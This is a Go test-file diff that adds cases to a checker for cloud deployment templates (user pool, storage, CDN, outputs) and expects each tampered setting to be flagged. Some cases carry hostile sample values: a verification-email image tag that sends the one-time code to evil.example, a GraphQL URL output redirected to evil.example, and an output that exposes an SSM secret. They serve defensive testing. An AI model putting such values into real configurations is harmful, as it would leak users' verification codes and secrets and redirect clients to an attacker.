@@ -45,6 +45,18 @@ func attribute(stack, path, name string, value any) func(testing.TB) string {
 	}
 }
 
+// output is prod with another value of an output, nil for none.
+func output(stack, key string, value any) func(testing.TB) string {
+	return func(t testing.TB) string {
+		return prooftest.Altered(t, stack, func(template map[string]any) {
+			outputs := template["Outputs"].(map[string]any)
+			if outputs[key] = map[string]any{"Value": value}; value == nil {
+				delete(outputs, key)
+			}
+		})
+	}
+}
+
 // firstStepOff is prod with a pipeline that writes without the read before.
 func firstStepOff(t testing.TB) string {
 	return prooftest.Edited(t, "API", "API/Mutation.deleteComment/Resource", func(properties map[string]any) {
@@ -132,14 +144,28 @@ func TestProve_isClosed(t *testing.T) {
 		"a pipeline that is no pipeline": {set("API", "API/Mutation.addComment/Resource", "Kind", "UNIT"), "got UNIT with 2 functions"},
 		"a pipeline without its check":   {firstStepOff, "asks the data sources Photos, want Photos, Photos"},
 
-		"rows that end":                 {set("API", products, "TimeToLiveSpecification", map[string]any{"AttributeName": "x", "Enabled": true}), unread},
-		"rows that cannot come back":    {set("API", products, "Replicas.0.PointInTimeRecoverySpecification.PointInTimeRecoveryEnabled", false), "PointInTimeRecoverySpecification: got"},
-		"tables that go":                {attribute("API", products, "DeletionPolicy", "Delete"), "DeletionPolicy and UpdateReplacePolicy: got Delete"},
-		"a pool that goes when changed": {attribute("Auth", "Auth/UserPool/Resource", "UpdateReplacePolicy", "Delete"), "got Retain and Delete"},
-		"files that end":                {set("FileStorage", files, "LifecycleConfiguration.Rules", []any{map[string]any{"Status": "Enabled", "ExpirationInDays": 1}}), "people's files stay until somebody removes them"},
-		"files that something empties":  {set("FileStorage", files, "Tags", []any{map[string]any{"Key": "aws-cdk:auto-delete-objects", "Value": "true"}}), "want nothing that empties buckets"},
-		"control: a tag":                {set("FileStorage", files, "Tags", []any{map[string]any{"Key": "team", "Value": "true"}}), ""},
-		"files that nobody logs":        {set("FileStorage", files, "LoggingConfiguration", nil), "LoggingConfiguration.DestinationBucketName: got nothing"},
+		"rows that end":                     {set("API", products, "TimeToLiveSpecification", map[string]any{"AttributeName": "x", "Enabled": true}), unread},
+		"rows that cannot come back":        {set("API", products, "Replicas.0.PointInTimeRecoverySpecification.PointInTimeRecoveryEnabled", false), "PointInTimeRecoverySpecification: got"},
+		"tables that go":                    {attribute("API", products, "DeletionPolicy", "Delete"), "DeletionPolicy and UpdateReplacePolicy: got Delete"},
+		"a pool that goes when changed":     {attribute("Auth", "Auth/UserPool/Resource", "UpdateReplacePolicy", "Delete"), "got Retain and Delete"},
+		"files that end":                    {set("FileStorage", files, "LifecycleConfiguration.Rules", []any{map[string]any{"Status": "Enabled", "ExpirationInDays": 1}}), "people's files stay until somebody removes them"},
+		"files that something empties":      {set("FileStorage", files, "Tags", []any{map[string]any{"Key": "aws-cdk:auto-delete-objects", "Value": "true"}}), "want nothing that empties buckets"},
+		"control: a tag":                    {set("FileStorage", files, "Tags", []any{map[string]any{"Key": "team", "Value": "true"}}), ""},
+		"a picture in the mail with a code": {set("Auth", "Auth/UserPool/Resource", "VerificationMessageTemplate.EmailMessage", `<img src="https://evil.example/{####}">`), "want plain text with {####} in it once"},
+		"a mail without its code":           {set("Auth", "Auth/UserPool/Resource", "EmailVerificationMessage", "Hello."), "want plain text with {####} in it once"},
+		"a mail that is filled in":          {set("Auth", "Auth/UserPool/Resource", "EmailVerificationMessage", "{{resolve:ssm:/mail}} {####}"), "which a deployment fills in"},
+		"a sender without its identity":     {set("Auth", "Auth/UserPool/Resource", "EmailConfiguration", map[string]any{"From": "x@evil.example"}), "none without an identity of SES"},
+		"a folder by a role's tag":          {set("Identity", "Identity/AdminRole/Resource", "Tags", []any{map[string]any{"Key": "user", "Value": "victim"}}), "no tag user"},
+		"control: another tag of a role":    {set("Identity", "Identity/AdminRole/Resource", "Tags", []any{map[string]any{"Key": "team", "Value": "x"}}), ""},
+		"a CDN without IPv6":                {set("CDN", cdnPath, "DistributionConfig.IPV6Enabled", false), "IPV6Enabled: got false"},
+		"an origin that is filled in":       {set("FileStorage", files, "CorsConfiguration.CorsRules.0.AllowedOrigins", []any{"https://{{resolve:ssm:/x}}"}), "which a deployment fills in"},
+		"a policy that nobody has":          {set("FileStorage", "FileStorage/GuestAccess/Resource", "Roles", nil), "Roles: got nothing, want it"},
+		"clients are sent elsewhere":        {output("API", "GraphQLAPIURL", "https://evil.example/graphql"), "Outputs.GraphQLAPIURL: got https://evil.example"},
+		"clients sign in elsewhere":         {output("Auth", "UserPoolId", "us-east-1_other"), "Outputs.UserPoolId: got us-east-1_other"},
+		"clients are told nothing":          {output("Auth", "UserPoolId", nil), "Outputs.UserPoolId: got nothing"},
+		"an output that is filled in":       {output("Auth", "Leak", "{{resolve:ssm:/secret}}"), "nobody has looked at what reads it"},
+		"a limit that nobody says":          {prooftest.SchemaWith("listDrafts(limit: Int,", "listDrafts(limit: Int = 100000,"), "has a value for limit of its own"},
+		"files that nobody logs":            {set("FileStorage", files, "LoggingConfiguration", nil), "LoggingConfiguration.DestinationBucketName: got nothing"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			violations, err := checkTemplates(prooftest.Read(t, test.dir(t)), access.Rules(), &Count{})
